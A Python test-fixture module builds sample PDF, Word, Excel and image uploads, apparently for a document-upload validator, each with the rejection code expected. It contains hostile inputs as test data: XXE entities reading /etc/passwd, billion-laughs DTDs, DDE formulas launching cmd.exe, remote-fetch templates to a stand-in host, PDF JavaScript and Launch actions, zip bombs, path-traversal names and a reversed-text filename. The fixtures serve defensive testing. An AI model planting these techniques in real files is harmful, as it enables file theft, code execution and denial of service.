"""Every kind of file that durability asks to be judged (T49), each with the verdict that it must get."""
from __future__ import annotations

import io
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass

from PIL import Image

from tests.cases.files import upload_files as made
from tests.cases.files.upload_files import (
    EICAR,
    SHEET,
    WORD,
    Members,
    field_of,
    packed,
    pdf,
    photo,
    related,
    sheet,
    stream,
    word,
    zipped,
)

GOOD = ""
D, X, P = "van-ban.docx", "bang.xlsx", "van-ban.pdf"
FETCHES, OBJECT = "file_outside_link", "file_object"
REMOTE = "http://xau.example/a"
ENTITY = "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>"
LAUGHS = "<!DOCTYPE a [<!ENTITY a 'ha'><!ENTITY b '&a;&a;&a;&a;&a;&a;&a;&a;'><!ENTITY c '&b;&b;&b;&b;&b;&b;&b;&b;'>]>"


@dataclass(frozen=True, slots=True)
class Sample:
    """A file, what it is called, and the code of the refusal that it must get; empty when it must be taken."""

    what: str
    name: str
    body: bytes
    verdict: str


def corpus() -> Iterator[Sample]:
    """Yield all samples; what they are is a test's name."""
    for rows in (good(), types(), packages(), relations(), entities(), bombs(), pdfs(), pictures(), odd()):
        for what, name, body, verdict in rows:
            yield Sample(what, name, body, verdict)


Row = tuple[str, str, bytes, str]


def good() -> list[Row]:
    links = related(
        ("hyperlink", "https://vbpl.vn/", True), ("hyperlink", "mailto:lan@lamgiang.example", True),
        ("hyperlink", "#muc-1", True), ("styles", "styles.xml", False),
    )  # fmt: skip
    formulas = "<c r='A1'><f>SUM(B1:B3)&amp;\"a|b!\"&amp;'Bảng|kê'!A1</f></c>"
    picture = photo((32, 32), kind="PNG")
    printer = {"xl/printerSettings/printerSettings1.bin": b"\0" * 40}
    signed: Members = {"_xmlsignatures/origin.sigs": b"", "_xmlsignatures/sig1.xml": "<Signature/>"}
    return [
        ("plain pdf", P, pdf(), GOOD),
        ("pdf with packed objects", P, pdf(packed("<</Type/Font>>")), GOOD),
        ("pdf with a link", P, pdf("<</S/URI/URI(https://vbpl.vn)>>"), GOOD),
        ("pdf with a picture that reads like commands", P, pdf(stream("/Subtype/Image", b"/JS (x) /AA")), GOOD),
        ("pdf updated after signing", "ky-so.pdf", pdf() + b"4 0 obj\n<<>>\nendobj\nstartxref\n9\n%%EOF\n", GOOD),
        ("word", "đề nghị.docx", word(), GOOD),
        ("word with links that people click", "đề nghị.docx", links, GOOD),
        ("word with a picture", "đề nghị.docx", word({"word/media/image1.png": picture}), GOOD),
        ("word with page numbers", "đề nghị.docx", field_of("PA", "GE"), GOOD),
        ("word with a link field", "đề nghị.docx", field_of(' HYPERLINK "https://vbpl.vn/link" '), GOOD),
        ("word signed by its author", "đề nghị.docx", word(signed), GOOD),
        ("word with a formula", "đề nghị.docx", word(body="<w:p><m:f xmlns:m='m'>|x|!</m:f></w:p>"), GOOD),
        ("word written with data descriptors", "đề nghị.docx", streamed(), GOOD),
        ("sheet", "bang-ke.xlsx", sheet(), GOOD),
        ("sheet with formulas", "bang-ke.xlsx", sheet(cell=formulas), GOOD),
        ("sheet with printer settings", "bang-ke.xlsx", sheet(printer), GOOD),
        ("photo", "ảnh.jpg", photo(), GOOD),
        ("photo with another ending", "ANH.JPEG", photo(), GOOD),
        ("grey photo", "anh.jpg", saved("L", "JPEG"), GOOD),
        ("photo for print", "anh.jpg", saved("CMYK", "JPEG"), GOOD),
        ("photo with a film behind it", "anh.jpg", photo() + b"\0\0\0\x18ftypmp42" + b"\0" * 500, GOOD),
        ("scan", "quet.png", photo(kind="PNG"), GOOD),
        ("drawing with see-through parts", "quet.png", saved("RGBA", "PNG"), GOOD),
        ("drawing of few colours", "quet.png", saved("P", "PNG"), GOOD),
    ]  # fmt: skip


def types() -> list[Row]:
    return [
        ("empty", P, b"", "file_empty"),
        ("text called pdf", P, b"Kinh gui So Ngoai vu", "file_not_its_type"),
        ("picture called pdf", P, photo(), "file_not_its_type"),
        ("pdf called picture", "anh.jpg", pdf(), "file_not_its_type"),
        ("sheet called word", "bang.docx", sheet(), "file_not_its_type"),
        ("zip called word", "bang.docx", zipped({"a.txt": "a"}), "file_not_its_type"),
        ("program", "phan-mem.exe", b"MZ" + b"\0" * 100, "file_type"),
        ("program behind two endings", "quyet-dinh.pdf.exe", b"MZ" + b"\0" * 100, "file_type"),
        ("program called pdf", "quyet-dinh.exe.pdf", b"MZ" + b"\0" * 100, "file_not_its_type"),
        ("no ending", "vanban", pdf(), "file_type"),
        ("text", "ghi-chu.txt", b"ghi chu", "file_type"),
        ("test virus", "eicar.com", EICAR, "file_type"),
        ("test virus called pdf", "eicar.pdf", EICAR, "file_not_its_type"),
        ("archive", "ho-so.zip", zipped({"a.pdf": pdf()}), "file_type"),
        ("old word", "van-ban.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "file_old_office"),
        ("old word called docx", D, b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "file_old_office"),
        ("word with a password", D, made.locked_office(), "file_locked"),
        ("iPhone photo", "IMG_0001.HEIC", b"\0\0\0\x18ftypheic" + b"\0" * 100, "file_heic"),
        ("iPhone photo called jpg", "IMG_0001.jpg", b"\0\0\0\x18ftypmif1" + b"\0" * 100, "file_heic"),
        ("drawing with scripts", "hinh.svg", b"<svg onload='alert(1)'/>", "file_scripted"),
        ("drawing called png", "hinh.png", b"<?xml version='1.0'?><svg/>", "file_scripted"),
        ("page", "trang.html", b"<html></html>", "file_scripted"),
        ("page called pdf", "trang.pdf", b"<!DOCTYPE html><script>alert(1)</script>", "file_scripted"),
        ("page in two-byte letters", "trang.jpg", "<script>alert(1)</script>".encode("utf-16"), "file_scripted"),
    ]  # fmt: skip


def packages() -> list[Row]:
    macro_type = "application/vnd.ms-word.document.macroEnabled.main+xml"
    vba = {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"}
    hidden = ("/word/notes.xml", "application/vnd.ms-office.vbaProject")
    retyped = made.word_parts() | {"[Content_Types].xml": made.types(WORD, "/word/document.xml", hidden)}
    bare = {"[Content_Types].xml": "<Types/>", "_rels/.rels": "<a/>"}
    sheet_macro = {"xl/macrosheets/sheet1.xml": "<a/>"}
    return [
        ("macro word", "van-ban.docm", word(vba, main=macro_type), "file_macro"),
        ("macro word called docx", D, word(main=macro_type), "file_macro"),
        ("vbaProject in a docx", D, word(vba), "file_macro"),
        ("vba under another name", D, zipped(retyped), "file_macro"),
        ("vba by relationship", D,
         related(("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "x.xml", False)), "file_macro"),
        ("macro sheet of old Excel", X, sheet(sheet_macro), "file_macro"),
        ("word template", "mau.docx", word(main=WORD.replace("document.main", "template.main")), "file_not_its_type"),
        ("OLE object", D, word({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}), OBJECT),
        ("OLE called picture", D, word({"word/media/image1.png": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"}), OBJECT),
        ("ActiveX", D, word({"word/activeX/activeX1.xml": "<a/>"}), OBJECT),
        ("sheet inside word", D, word({"word/embeddings/bang.xlsx": sheet()}), OBJECT),
        ("archive called picture", D, word({"word/media/image1.png": zipped({"a": "a"})}), OBJECT),
        ("program called picture", D, word({"word/media/image1.png": b"MZ" + b"\0" * 60}), OBJECT),
        ("page inside word", D, word({"word/afchunk.html": "<html/>"}), OBJECT),
        ("own ribbon", D, word({"customUI/customUI14.xml": "<a/>"}), OBJECT),
        ("scripted drawing inside word", D, word({"word/media/image1.svg": "<svg onload='a()'/>"}), "file_active"),
        ("no document in it", D, zipped(bare), "file_not_its_type"),
        ("broken xml", D, word({"word/styles.xml": "<a><b></a>"}), "file_damaged"),
        ("sheet in a macro type", X, sheet(main=SHEET.replace("sheet.main", "sheet.macroEnabled.main")), "file_macro"),
    ]  # fmt: skip


def relations() -> list[Row]:
    settings = {"word/_rels/settings.xml.rels": made.relations(("attachedTemplate", REMOTE + ".dotm", True))}
    vml = "<w:pict xmlns:v='v'><v:imagedata src='\\\\xau.example\\a'/></w:pict>"
    dde = "<c r='A1'><f>cmd|'/c calc'!A0</f></c>"
    fetch = "<c r='A1'><f>_xlfn.WEBSERVICE(\"http://xau.example\")</f></c>"
    return [
        ("template from elsewhere", D, word(settings), FETCHES),
        ("picture from elsewhere", D, related(("image", REMOTE, True)), FETCHES),
        ("picture from elsewhere, not marked so", D, related(("image", REMOTE, False)), FETCHES),
        ("picture from a share", D, related(("image", "\\\\xau.example\\a.png", True)), FETCHES),
        ("frame from elsewhere", D, related(("frame", REMOTE, True)), FETCHES),
        ("object from elsewhere", D, related(("oleObject", REMOTE, True)), OBJECT),
        ("link to a share", D, related(("hyperlink", "file://xau.example/a", True)), FETCHES),
        ("picture by VML", D, word(body=vml), FETCHES),
        ("DDE field", D, field_of(' DDEAUTO c:\\windows\\cmd.exe "/k calc" '), FETCHES),
        ("DDE field in pieces", D, field_of(" DD", "EAU", "TO cmd "), FETCHES),
        ("DDE in a simple field", D, word(body="<w:fldSimple w:instr='DDE cmd'/>"), FETCHES),
        ("text from elsewhere", D, field_of(' INCLUDETEXT "http://xau.example" '), FETCHES),
        ("DDE formula", X, sheet(cell=dde), FETCHES),
        ("formula that fetches", X, sheet(cell=fetch), FETCHES),
        ("DDE link", X, sheet({"xl/x.xml": "<ddeLink/>"}), FETCHES),
        ("linked workbook", X, sheet({"xl/externalLinks/externalLink1.xml": "<a/>"}), FETCHES),
        ("data connection", X, sheet({"xl/connections.xml": "<a/>"}), FETCHES),
    ]  # fmt: skip


def entities() -> list[Row]:
    quadratic = f"<!DOCTYPE a [<!ENTITY x '{'x' * 50_000}'>]>{'<a>' + '&x;' * 1000 + '</a>'}"
    two_byte = f"<?xml version='1.0' encoding='UTF-16'?>{ENTITY}<a/>".encode("utf-16")
    return [
        ("file by entity", D, word({"word/styles.xml": f"{ENTITY}<a>&x;</a>"}), "file_active"),
        ("file by entity in two-byte letters", D, word({"word/styles.xml": two_byte}), "file_active"),
        ("file by entity in relationships", D, word({"word/_rels/a.xml.rels": f"{ENTITY}<a/>"}), "file_active"),
        ("billion laughs", D, word({"word/styles.xml": f"{LAUGHS}<a>&c;</a>"}), "file_active"),
        ("quadratic growth", D, word({"word/styles.xml": quadratic}), "file_active"),
        ("document type from elsewhere", D, word({"word/a.xml": f"<!DOCTYPE a SYSTEM '{REMOTE}'><a/>"}), "file_active"),
    ]  # fmt: skip


def bombs() -> list[Row]:
    zeros = b"\0" * (120 * 1024 * 1024)
    inner = zipped({"a": zeros})
    many = {f"word/x{n}.xml": "<a/>" for n in range(10_000)}
    nested = {"word/media/image1.png": zipped({"b.zip": inner})}
    broken = word()
    return [
        ("bomb by ratio", D, word({"word/big.xml": b"<a>" + b" " * 9_000_000 + b"</a>"}), "file_bomb"),
        ("bomb by size", D, word({"word/media/a.png": zeros}), "file_bomb"),
        ("bomb in a bomb", D, word(nested), OBJECT),
        ("ten thousand parts", D, word(many), "file_bomb"),
        ("parts lying over each other", D, made.overlapping(), "file_bomb"),
        ("part larger than it says", D, made.lying_about_size(), "file_damaged"),
        ("name that climbs", D, word({"../../etc/cron.xml": "<a/>"}), "file_names_inside"),
        ("name from the root", D, word({"/etc/cron.xml": "<a/>"}), "file_names_inside"),
        ("name of Windows", D, word({"word\\..\\a.xml": "<a/>"}), "file_names_inside"),
        ("name twice", D, word({"WORD/document.xml": "<a/>"}), "file_names_inside"),
        ("symbolic link", D, made.with_symlink(), "file_names_inside"),
        ("encrypted parts", D, made.flagged_locked(), "file_locked"),
        ("cut off", D, broken[: len(broken) // 2], "file_damaged"),
        ("other packing", D, zipped(made.word_parts(), zipfile.ZIP_BZIP2), "file_damaged"),
        ("something before the zip", D, b"PK\x03\x04" + b"x" * 40 + broken, "file_mixed"),
        ("something behind the zip", D, broken + b"<script>alert(1)</script>", "file_mixed"),
    ]  # fmt: skip


def pdfs() -> list[Row]:
    script = "<</S/JavaScript/JS(app.alert(1))>>"
    both = zipped({"a.txt": "a"})
    shifted = b"\n\n" + pdf()
    swollen = stream("/Type/ObjStm/N 1/First 4/Filter/FlateDecode", zlib.compress(b" " * 80_000_000))
    return [
        ("JavaScript", P, pdf(script), "file_active"),
        ("JavaScript spelled otherwise", P, pdf("<</S/J#61va#53cript/JS(a)>>"), "file_active"),
        ("JavaScript in packed objects", P, pdf(packed(script)), "file_active"),
        ("JavaScript in objects packed under another spelling", P,
         pdf(packed(script, "/Type/Obj#53tm/N 1/Fi#72st 4/Filter/FlateDecode")), "file_active"),
        ("JavaScript in packed objects, with a false beginning", P,
         pdf(packed(script, "/Type/ObjStm/N 1/First 4/X(1 0 obj)/Filter/FlateDecode")), "file_active"),
        ("starting a program", P, pdf("<</S/Launch/F(cmd.exe)>>"), "file_active"),
        ("form that sends itself", P, pdf("<</S/SubmitForm/F(http://xau.example)>>"), "file_active"),
        ("dynamic form", P, pdf("<</XFA 5 0 R>>"), "file_active"),
        ("file inside", P, pdf("<</Names[(a)]/EF<</F 4 0 R>>/Type/EmbeddedFile>>"), OBJECT),
        ("password", P, pdf("<<>>", trailer="/Encrypt 4 0 R"), "file_locked"),
        ("cut off", P, pdf()[:-40], "file_damaged"),
        ("nothing but a head", P, b"%PDF-1.7\n", "file_damaged"),
        ("no table", P, b"%PDF-1.4\nstartxref\n5\n%%EOF\n", "file_damaged"),
        ("page behind a head", P, b"%PDF-1.4\n<html><script>alert(1)</script></html>" + pdf()[9:], "file_mixed"),
        ("does not begin as pdf", P, shifted, "file_not_its_type"),
        ("zip behind it", P, pdf() + both, "file_mixed"),
        ("zip behind it, with an end mark in its comment", P, with_comment(pdf()), "file_mixed"),
        ("packed objects that swell", P, pdf(swollen), "file_bomb"),
        ("packed objects in another packing", P,
         pdf(stream("/Type/ObjStm/N 1/First 4/Filter/LZWDecode", b"abc")), "file_too_complex"),
        ("packed objects that are broken", P,
         pdf(stream("/Type/ObjStm/N 1/First 4/Filter/FlateDecode", b"abc")), "file_damaged"),
    ]  # fmt: skip


def pictures() -> list[Row]:
    return [
        ("flood of pixels", "anh.png", made.flood(40_000, 40_000), "file_pixels"),
        ("flood of pixels in a photo", "anh.jpg", made.wide_photo(60_000, 60_000), "file_pixels"),
        ("flood of pixels inside word", D, word({"word/media/a.png": made.flood(40_000, 40_000)}), "file_pixels"),
        ("photo cut off", "anh.jpg", photo()[:-300], "file_damaged"),
        ("drawing cut off", "anh.png", photo(kind="PNG")[:-300], "file_damaged"),
        ("photo that is only a head", "anh.jpg", b"\xff\xd8\xff\xe0" + b"\0" * 50, "file_damaged"),
        ("photo with a zip behind it", "anh.jpg", photo() + zipped({"a.txt": "a"}), "file_mixed"),
    ]  # fmt: skip


def odd() -> list[Row]:
    return [
        ("name that reads backwards", "quyet-dinh‮fdp.exe", b"MZ" + b"\0" * 60, "file_type"),
        ("name with a path", "../../etc/passwd", b"root:x:0:0", "file_type"),
        ("name of a thousand letters", "ă" * 1000 + ".pdf", pdf(), GOOD),
        ("name in parts of letters", "Đề nghị.pdf", pdf(), GOOD),
    ]  # fmt: skip


def streamed() -> bytes:
    """Return a .docx written without going back: each member is followed by a descriptor."""

    class OneWay(io.BytesIO):
        def seekable(self) -> bool:
            return False

        def tell(self) -> int:
            raise OSError

    out = OneWay()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as opened:
        for name, data in made.word_parts().items():
            opened.writestr(name, data)
    return out.getvalue()


def with_comment(body: bytes) -> bytes:
    out = io.BytesIO(zipped({"a.txt": "a"}))
    with zipfile.ZipFile(out, "a") as opened:
        opened.comment = b"startxref\n9\n%%EOF\n"
    return body + out.getvalue()


def saved(mode: str, kind: str) -> bytes:
    out = io.BytesIO()
    Image.new(mode, (60, 40)).save(out, kind)
    return out.getvalue()
